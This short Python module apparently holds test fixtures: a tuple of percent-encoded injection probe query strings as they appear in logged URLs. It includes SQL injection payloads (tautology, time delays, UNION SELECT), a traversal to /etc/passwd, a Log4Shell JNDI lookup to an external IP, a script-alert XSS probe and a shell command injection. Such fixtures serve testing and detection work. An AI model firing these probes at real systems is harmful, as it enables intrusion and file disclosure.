"""Query strings of injection probes, as they stand in a Url that is logged with its query."""

from __future__ import annotations

from typing import Final

#: percent-encoded as a client sends them; nothing here needs escaping in JSON
QUERIES: Final[tuple[str, ...]] = (
    "?q=shoes%27%20OR%20%271%27%3D%271",
    "?q=1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "?id=1%20AND%20SLEEP(5)",
    "?id=1%20UNION%20SELECT%20null,version()--",
    "?file=..%2F..%2F..%2Fetc%2Fpasswd",
    "?name=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
    "?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "?cmd=%3Bsleep%2010",
    "?id=1)%20OR%20pg_sleep(5)--",
)
